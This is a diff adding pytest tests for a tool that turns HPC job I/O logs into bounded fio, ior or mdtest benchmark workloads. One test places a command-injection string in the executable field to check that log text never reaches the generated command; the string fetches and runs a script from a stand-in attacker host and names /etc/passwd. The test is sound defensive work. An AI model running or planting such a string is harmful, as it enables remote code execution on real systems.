@@ -1,0 +1,153 @@
+"""Replay my job, its first step (jobio/replay.py): a job's I/O becomes a bounded
+benchmark of the same kind, and the page's words of what it kept and what it could
+not. On the committed logs (read in the sandbox, as the worker reads them) and on
+jobs written out here."""
+
+import dataclasses
+
+import pytest
+
+from exercises.advisor.job_io import SIZE_BINS, JobIO
+from jobio.replay import NotReplayable, replay_of
+from jobio.sandbox import parse
+from jobs.engines import get_engine
+from jobs.engines.base import Pattern, Target
+from tests.jobio.logs import log
+
+KiB, MiB, GiB = 2**10, 2**20, 2**30
+LIMITS = {"seconds": 20, "memory_bytes": 768 * MiB, "max_bytes": 64 * MiB}
+
+
+def read(name: str) -> JobIO:
+    return parse(log(name), **LIMITS)
+
+
+def job(**given) -> JobIO:
+    """A job's I/O as the log would say it: one process writing 64 MiB in 1 MiB
+    requests, start to end, unless `given` says otherwise."""
+    base = JobIO(
+        job_id=7, uid=1000, nprocs=1, run_time_s=10.0, exe="./app", bytes_written=64 * MiB,
+        bytes_read=0, writes=64, reads=0, write_sizes=(0,) * len(SIZE_BINS),
+        read_sizes=(0,) * len(SIZE_BINS), sequential_requests=63, consecutive_requests=63,
+        first_requests=1, files=1, shared_files=0, footprint_bytes=64 * MiB,
+        meta_time_s=0.1, io_time_s=2.0, common_sizes=((1 * MiB, 64),), syncs=1,
+    )  # fmt: skip
+    return dataclasses.replace(base, **given)
+
+
+def test_random_4k_writes_replay_as_random_4k_writes_the_whole_job() -> None:
+    replay = replay_of(read("random-4k"))
+
+    w = replay.workload
+    assert (replay.engine, w.pattern, w.block_size) == ("fio", Pattern.RANDOM, 4 * KiB)
+    assert (w.processes, w.size_per_process, w.fsync, w.seconds) == (1, 64 * MiB, True, None)
+    assert replay.scale == 1.0
+    assert "requests of 4 KiB" in replay.kept and "at scattered offsets" in replay.kept
+
+
+def test_a_stream_bigger_than_the_bound_writes_for_its_seconds_instead() -> None:
+    replay = replay_of(read("sequential-1m"), max_bytes=1 * GiB, seconds=60)
+
+    w = replay.workload
+    assert (replay.engine, w.pattern, w.block_size) == ("fio", Pattern.SEQUENTIAL, 1 * MiB)
+    assert (w.size_per_process, w.seconds) == (1 * GiB, 60)
+    assert replay.scale == 2.0  # the job wrote 2 GiB
+    assert any("for 60 s" in said for said in replay.kept)
+
+
+def test_many_small_files_replay_as_mdtest_files() -> None:
+    replay = replay_of(read("small-files"))
+
+    w = replay.workload
+    assert replay.engine == "mdtest"
+    assert (w.files_per_process, w.size_per_process // w.files_per_process) == (1000, 16 * KiB)
+    assert "1,000 small files a process" in replay.kept
+
+
+def test_two_thousand_ranks_on_one_shared_file_replay_as_ior_on_fewer() -> None:
+    """VPIC-IO: 2,048 ranks, one shared HDF5 file, 128 MiB requests."""
+    replay = replay_of(read("example"), max_bytes=1 * GiB, max_processes=8)
+
+    w = replay.workload
+    assert (replay.engine, w.processes, w.file_per_process) == ("ior", 8, False)
+    assert w.block_size == 64 * MiB and w.size_per_process * 8 <= 1 * GiB
+    assert "all of the job's 2,048 processes: replayed by 8" in replay.not_kept
+    assert any("replayed as 64 MiB" in said for said in replay.not_kept)
+
+
+@pytest.mark.parametrize(
+    "given, engine, pattern",
+    [
+        ({}, "fio", Pattern.SEQUENTIAL),
+        ({"sequential_requests": 0, "consecutive_requests": 0}, "fio", Pattern.RANDOM),
+        ({"nprocs": 4, "files": 1, "shared_files": 1}, "ior", Pattern.SEQUENTIAL),
+        ({"nprocs": 4, "files": 4}, "fio", Pattern.SEQUENTIAL),
+        (
+            {
+                "files": 5000,
+                "footprint_bytes": 5000 * 8 * KiB,
+                "common_sizes": ((8 * KiB, 5000),),
+                "bytes_written": 5000 * 8 * KiB,
+            },
+            "mdtest",
+            Pattern.SEQUENTIAL,
+        ),
+    ],  # fmt: skip
+    ids=["stream", "scattered", "shared-file", "file-per-process", "small-files"],
+)
+def test_each_shape_gets_its_engine_and_order(given, engine, pattern) -> None:
+    replay = replay_of(job(**given))
+
+    assert (replay.engine, replay.workload.pattern) == (engine, pattern)
+    # The engine takes it, as it takes an exercise's workload.
+    assert get_engine(engine).command(replay.workload, Target(directory="/r"))
+
+
+def test_a_job_that_read_what_it_wrote_reads_it_back_and_says_whose_data_it_reads() -> None:
+    replay = replay_of(job(bytes_read=64 * MiB, reads=64))
+
+    assert replay.workload.read_back
+    assert "reading data another job wrote: the replay reads back its own" in replay.not_kept
+
+
+def test_tiny_requests_are_replayed_at_the_engines_smallest_and_said_so() -> None:
+    replay = replay_of(job(common_sizes=((100, 1000),), writes=1000, bytes_written=100_000))
+
+    assert replay.workload.block_size == 512
+    assert "requests of 100 B: replayed as 512 B" in replay.not_kept
+
+
+def test_a_partial_log_is_replayed_with_what_is_missing_said() -> None:
+    assert any("partial" in said for said in replay_of(job(partial=True)).not_kept)
+
+
+def test_a_log_without_reads_or_writes_cannot_be_replayed_and_says_why() -> None:
+    with pytest.raises(NotReplayable, match="no reads or writes of files"):
+        replay_of(job(bytes_written=0, writes=0))
+
+
+def test_nothing_of_the_logs_text_reaches_the_command() -> None:
+    hostile = "$(curl evil.example | sh); `id` --output=/etc/passwd"
+    replay = replay_of(job(exe=hostile))
+
+    argv = get_engine(replay.engine).command(replay.workload, Target(directory="/r"))
+    assert not any(part in " ".join(argv) for part in ("curl", "evil", "`id`", "passwd"))
+    assert hostile not in repr(replay)
+
+
+def test_more_small_files_than_the_bound_holds_are_fewer_and_said_so() -> None:
+    many = job(nprocs=2, files=400_000, footprint_bytes=400_000 * 512 * KiB,
+               common_sizes=((512 * KiB, 400_000),), bytes_written=400_000 * 512 * KiB)  # fmt: skip
+    replay = replay_of(many, max_bytes=1 * GiB)
+
+    assert replay.engine == "mdtest"
+    assert replay.replay_bytes <= 1 * GiB
+    assert "all of its 200,000 files a process: replayed with 1,024" in replay.not_kept
+
+
+def test_small_files_every_rank_opened_are_still_files_of_their_own() -> None:
+    shared = job(nprocs=4, files=1000, shared_files=1000, footprint_bytes=1000 * 8 * KiB,
+                 common_sizes=((8 * KiB, 1000),), bytes_written=1000 * 8 * KiB)  # fmt: skip
+    replay = replay_of(shared)
+
+    assert (replay.engine, replay.workload.file_per_process) == ("mdtest", True)
